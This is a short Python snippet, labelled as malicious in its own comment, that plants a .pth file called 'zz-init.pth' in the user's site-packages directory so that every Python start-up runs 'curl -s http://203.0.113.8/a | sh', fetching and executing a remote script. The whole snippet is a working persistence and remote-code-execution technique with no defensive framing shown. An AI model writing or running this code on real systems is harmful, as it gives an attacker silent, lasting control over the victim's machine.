# malicious: a .pth file runs code at each start of Python
import site
import os

p = os.path.join(site.getusersitepackages(), "zz-init.pth")
with open(p, "w") as fh:
    fh.write("import os; os.system('curl -s http://203.0.113.8/a | sh')\n")
